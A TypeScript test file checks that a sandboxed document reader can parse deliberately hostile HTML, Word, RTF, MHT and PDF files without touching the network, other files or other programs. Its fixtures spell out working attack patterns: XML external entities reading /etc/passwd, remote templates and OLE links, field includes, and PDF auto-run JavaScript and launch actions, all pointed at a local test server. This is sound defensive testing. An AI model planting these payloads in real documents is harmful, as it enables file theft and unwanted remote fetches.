import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { docxParts, paragraph, pdfOf, utf8, zipOf } from './files.ts';

const at = (path: string) => fileURLToPath(new URL(path, import.meta.url));
const ROOT = at('../../../');

let asked = 0;
let server: Server;
let url = '';
const folder = mkdtempSync(join(tmpdir(), 'bantin-alone-'));
beforeAll(async () => {
  server = createServer((_, response) => {
    asked += 1;
    response.end('fetched');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  url = `http://127.0.0.1:${typeof address === 'object' ? address?.port : 0}`;
  for (const [name, bytes] of Object.entries(hostileFiles(url))) writeFileSync(join(folder, name), bytes);
});
afterAll(() => {
  server.close();
  rmSync(folder, { recursive: true, force: true });
});

const WORDS = 'UBND xã Phú Thuận báo cáo kết quả 6 tháng đầu năm 2024. Hộ nghèo còn 12 hộ.';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const external = (id: string, type: string, target: string) =>
  `<Relationship Id="${id}" Type="${REL}/${type}" Target="${target}" TargetMode="External"/>`;

/** Files that would have a careless reader fetch, open or run something. */
const hostileFiles = (from: string): Readonly<Record<string, Uint8Array>> => ({
  'page.html':
    utf8(`<!doctype html><html><head><base href="${from}/"><meta http-equiv="refresh" content="0;url=${from}/refresh">
<link rel="stylesheet" href="${from}/style.css"><link rel="prefetch" href="${from}/prefetch"><script src="${from}/script.js"></script>
<style>@import url(${from}/import.css); body { background: url(${from}/background) }</style></head><body onload="fetch('${from}/onload')">
<script>fetch('${from}/inline'); document.write('RAN')</script><img src="${from}/image" onerror="fetch('${from}/onerror')">
<iframe src="${from}/frame"></iframe><object data="${from}/object"></object><embed src="${from}/embed"><video src="${from}/video"></video>
<svg><image href="${from}/svg"/><use href="${from}/use#x"/></svg><form action="${from}/form"><input autofocus onfocus="fetch('${from}/focus')"></form>
<article><p>${WORDS}</p></article></body></html>`),
  'page-with-dtd.html': utf8(
    `<?xml version="1.0"?><!DOCTYPE html SYSTEM "${from}/dtd" [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "${from}/entity">]><html><body><p>${WORDS} &a; &b;</p></body></html>`,
  ),
  'links.docx': zipOf(
    docxParts(
      `${paragraph(WORDS)}<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="r2" r:embed="r3"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p><w:altChunk r:id="r4"/><w:p><w:hyperlink r:id="r5"><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p><w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDETEXT "${from}/field"</w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
      [
        external('r2', 'image', `${from}/picture`),
        external('r3', 'image', 'file:///etc/passwd'),
        external('r4', 'aFChunk', `${from}/chunk`),
        external('r5', 'hyperlink', `${from}/hyperlink`),
        external('r6', 'attachedTemplate', `${from}/template.dotm`),
        external('r7', 'oleObject', `${from}/object`),
      ].join(''),
    ),
  ),
  'entities.docx': zipOf(
    docxParts(paragraph(`${WORDS} &a; &b;`)).map((part) =>
      part.name === 'word/document.xml'
        ? {
            ...part,
            content: `<?xml version="1.0"?><!DOCTYPE d SYSTEM "${from}/dtd" [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "${from}/entity">]>${part.content}`,
          }
        : part,
    ),
  ),
  'fields.rtf': utf8(
    `{\\rtf1\\ansi{\\*\\template ${from}/template}{\\field{\\*\\fldinst INCLUDEPICTURE "${from}/picture" \\\\d}{\\fldrslt}}{\\object\\objautlink{\\*\\objdata 00}}UBND xa Phu Thuan bao cao ket qua 6 thang dau nam 2024.\\par Ho ngheo con 12 ho.\\par}`,
  ),
  'page.mht': utf8(
    `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="e"\r\n\r\n--e\r\nContent-Type: text/html; charset="utf-8"\r\nContent-Location: ${from}/page\r\n\r\n<html><head><base href="${from}/"><script src="${from}/s.js"></script></head><body><img src="${from}/i"><img src="cid:1"><p>${WORDS}</p></body></html>\r\n--e\r\nContent-Type: message/external-body; access-type=URL; URL="${from}/body"\r\nContent-ID: <1>\r\n\r\n\r\n--e--\r\n`,
  ),
  'actions.pdf': pdfOf(
    [['UBND xa Phu Thuan bao cao ket qua 6 thang dau nam 2024.', 'Ho ngheo con 12 ho.']],
    `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${from}/js"\\); this.submitForm\\("${from}/submit"\\);) >> /AA << /WC << /S /URI /URI (${from}/uri) >> /WS << /S /Launch /F (/bin/true) >> /DP << /S /GoToR /F (${from}/remote.pdf) >> >> /AcroForm << /XFA (<x:x xmlns:x="${from}/xfa"/>) >>`,
  ),
});

/** A process that may read the project and this folder, and nothing else; the guard tells on what it reaches for. */
async function alone(...call: readonly string[]): Promise<readonly string[]> {
  const may = ['--permission', `--allow-fs-read=${ROOT}`, `--allow-fs-read=${folder}`, '--allow-worker'];
  const options = [...may, '--disallow-code-generation-from-strings', '--import', at('alone/guard.ts')];
  const { stdout } = await promisify(execFile)(
    process.execPath,
    [...options, at('alone/read-alone.ts'), folder, ...call],
    {
      env: { NODE_NO_WARNINGS: '1' },
    },
  );
  return stdout.trim().split('\n');
}

describe('a reader', () => {
  test('reads hostile files without the network, other files, other programs or code made of text', async () => {
    const lines = await alone();
    expect(lines.filter((line) => line.startsWith('REACHED'))).toEqual([]);
    expect(asked).toBe(0);
    const read = lines.map((line) => JSON.parse(line));
    expect(read.map(({ name }) => name)).toEqual(Object.keys(hostileFiles(url)).toSorted());
    for (const { name, status, reason, text = '' } of read) {
      // a document type is not needed in a Word file, and entities are what bombs are made of
      expect([name, status ?? reason]).toEqual([name, name === 'entities.docx' ? 'too-complex' : 'report']);
      if (status === undefined) continue;
      expect(text).toMatch(/(?:Hộ nghèo còn|Ho ngheo con) 12 h[ộo]\./u);
      expect(text).not.toMatch(/root:|fetched|RAN/);
    }
  });

  test('would be caught if it tried', async () => {
    const lines = await alone('--try');
    expect(lines.filter((line) => line.startsWith('REACHED'))).toEqual([
      'REACHED FOR a connection',
      'REACHED FOR a name',
    ]);
    const tried = lines.filter((line) => line.startsWith('{')).map((line) => JSON.parse(line));
    expect(tried).toEqual(
      ['fetch', 'name', 'file', 'process', 'code'].map((name) => ({ name, status: 'refused' })),
    );
  });
});
